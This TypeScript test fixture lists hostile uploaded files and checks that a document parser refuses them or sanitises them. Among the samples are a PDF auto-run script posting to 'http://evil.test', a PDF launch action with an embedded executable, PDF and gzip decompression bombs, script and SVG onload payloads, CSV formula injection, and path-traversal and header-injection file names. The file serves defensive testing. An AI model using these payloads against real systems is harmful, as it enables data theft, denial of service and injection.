import { deflateSync, gzipSync } from 'node:zlib';
import { png } from '../../builders/documents.ts';
import { encryptedPdf, pdfDocument, pdfPages, scannedPdf } from '../../builders/pdf-documents.ts';
import { bytes, type HostileFile } from './hostile-file.ts';

const policyText = '凭小票无理由退货';
const latin1 = (text: string) => Buffer.from(text, 'latin1');

const pdfs: HostileFile[] = [
  {
    title: 'a PDF with a script that runs when it opens',
    content: () =>
      pdfDocument(pdfPages, {
        extra:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.test"\\)) >>',
      }),
    reads: policyText,
    without: 'alert',
  },
  {
    title: 'a PDF that starts a program and has a file attached',
    content: () =>
      pdfDocument(pdfPages, {
        extra:
          '/OpenAction << /S /Launch /F (calc.exe) >> /Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>',
        objects: {
          100: '<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>',
          101: { head: '', stream: latin1('MZ evil') },
        },
      }),
    reads: policyText,
    without: 'evil',
  },
  { title: 'a PDF with a password', content: encryptedPdf, refused: 'encrypted' },
  { title: 'a scanned PDF', content: scannedPdf, refused: 'scanned' },
  { title: 'a PDF of its first line only', content: () => bytes('%PDF-1.7\n'), refused: 'broken' },
  { title: 'half a PDF', content: () => pdfDocument().subarray(0, 600), refused: ['broken', 'scanned'] },
  {
    title: 'a PDF of noise',
    content: () => Buffer.concat([bytes('%PDF-1.4\n'), Buffer.alloc(50_000, 0xa7)]),
    refused: 'broken',
  },
  {
    title: 'a PDF whose pages hold each other',
    content: () => pdfDocument([], { objects: { 2: '<< /Type /Pages /Count 2 /Kids [2 0 R 2 0 R] >>' } }),
    refused: ['broken', 'scanned'],
  },
  {
    title: 'a PDF that says it has a thousand million pages',
    content: () =>
      pdfDocument(pdfPages, { objects: { 2: '<< /Type /Pages /Count 999999999 /Kids [10 0 R 12 0 R] >>' } }),
    reads: policyText,
  },
  {
    title: 'a PDF bomb: a page of 1 GB of spaces',
    content: () => bombPdf(),
    // Only Linux bounds what a process allocates besides its heap.
    refused: process.platform === 'linux' ? 'tooMuchMemory' : 'scanned',
  },
  {
    title: 'a PDF of a million characters on one line',
    content: () => pdfDocument([[{ text: '长'.repeat(1_000_000), x: 0, y: 700 }]]),
    reads: '长长长',
  },
];

/** Deflated twice, so that the file is small. */
function bombPdf(): Uint8Array {
  const zeros = Buffer.alloc(256 * 1024 * 1024, 32);
  const once = deflateSync(Buffer.concat([zeros]), { level: 1 });
  return pdfDocument([], {
    objects: {
      2: '<< /Type /Pages /Count 1 /Kids [100 0 R] >>',
      100: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [${'101 0 R '.repeat(4)}] >>`,
      101: { head: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(once) },
    },
  });
}

const refused = (
  title: string,
  content: HostileFile['content'],
  refused: HostileFile['refused'],
  fileName?: string,
): HostileFile => ({ title, content, refused, fileName });
const readAs = (
  title: string,
  content: HostileFile['content'],
  reads: string,
  fileName?: string,
): HostileFile => ({ title, content, reads, fileName });

const fakes: HostileFile[] = [
  refused('a picture named .pdf', png, 'unknownType', '政策.pdf'),
  refused(
    'a JPEG named .docx',
    () => latin1('\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000'),
    'unknownType',
    '政策.docx',
  ),
  refused(
    'a Linux program named .txt',
    () => latin1('\u007fELF\u0002\u0001\u0001\u0000\u0000'),
    'unknownType',
    'a.txt',
  ),
  refused(
    'a Windows program named .csv',
    () => latin1('MZ\u0090\u0000\u0003\u0000\u0000\u0000'),
    'unknownType',
    'a.csv',
  ),
  refused(
    'a gzip bomb named .csv',
    () => gzipSync(Buffer.alloc(50_000_000)),
    ['unknownType', 'encoding'],
    'a.csv',
  ),
  refused('a 7z archive', () => latin1('7z\u00bc\u00af\u0027\u001c\u0000\u0004'), 'unknownType'),
  refused('a RAR archive', () => latin1('Rar!\u001a\u0007\u0001\u0000'), 'unknownType'),
  refused(
    'a page with a script named .txt',
    () => bytes('<!doctype html><script>alert(1)</script>'),
    'markup',
    'a.txt',
  ),
  refused('an SVG with a script named .md', () => bytes('<svg onload="alert(1)"/>'), 'markup', 'a.md'),
  refused(
    'XML with entities named .txt',
    () => bytes('<?xml version="1.0"?><!DOCTYPE a>'),
    'markup',
    'a.txt',
  ),
  refused('RTF named .docx', () => bytes('{\\rtf1\\ansi text}'), 'rtf', 'a.docx'),
  refused(
    'a script before a PDF',
    () => Buffer.concat([bytes('<script>alert(1)</script>\n'), pdfDocument()]),
    ['unknownType', 'encoding', 'markup'],
  ),
];

const texts: HostileFile[] = [
  refused('no byte', () => new Uint8Array(), 'empty'),
  refused('nothing but spaces', () => bytes(' \n\t\r\n\u3000'), 'empty'),
  refused(
    'bytes without meaning',
    () => Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 7919) % 251)),
    ['unknownType', 'encoding'],
  ),
  refused('halves of characters in UTF-16', () => Buffer.from('fffe00d800d80a00', 'hex'), 'encoding'),
  refused(
    'text that breaks off into noise later',
    () => Buffer.concat([bytes('退货\n'.repeat(20_000)), Buffer.alloc(3_000, 0xff)]),
    'encoding',
  ),
  refused('commands for a terminal', () => bytes('价格\u001b[2J\u001b]0;evil\u0007'), 'encoding'),
  readAs('invisible and turned characters', () => bytes('退\u200b货\u202e七天\u2066内\ufeff'), '退货七天内'),
  readAs('five million characters on one line', () => bytes('价'.repeat(5_000_000)), '价价价'),
  refused('30 million characters', () => bytes('a'.repeat(30_000_000)), 'tooMuchText'),
  readAs('a CSV with formulas', () => bytes('名,值\n甲,=cmd|calc\n乙,@SUM(1)\n'), '=cmd|calc', 'a.csv'),
  readAs(
    'a CSV of 200 000 columns',
    () => bytes(`${'列,'.repeat(200_000)}\n${'1,'.repeat(200_000)}`),
    '列',
    'a.csv',
  ),
  readAs('a CSV whose quote never ends', () => bytes(`名,值\n"甲,${'值\n'.repeat(50_000)}`), '甲', 'a.csv'),
  readAs('Markdown of open brackets', () => bytes(`# 标题\n${'['.repeat(300_000)}\n`), '标题', 'a.md'),
  readAs('Markdown of open marks', () => bytes(`# 标题\n${'`x '.repeat(200_000)}\n`), '标题', 'a.md'),
  readAs('a run of a million quotes', () => bytes(`退货。${'”'.repeat(1_000_000)}`), '退货'),
  readAs('a name with line breaks', () => bytes('七天内可以退货'), '七天内', 'a\r\nSet-Cookie: b\u0000.txt'),
  readAs('a name that leads out', () => bytes('七天内可以退货'), '七天内', '../../../../etc/passwd.md'),
  readAs('a name of 255 bytes', () => bytes('七天内可以退货'), '七天内', `${'退'.repeat(83)}.csv`),
  readAs('a name that is an option', () => bytes('七天内可以退货'), '七天内', '--eval.txt'),
];

/** PDFs, things that are not what they are called, and texts. */
export const otherFiles: HostileFile[] = [...pdfs, ...fakes, ...texts];
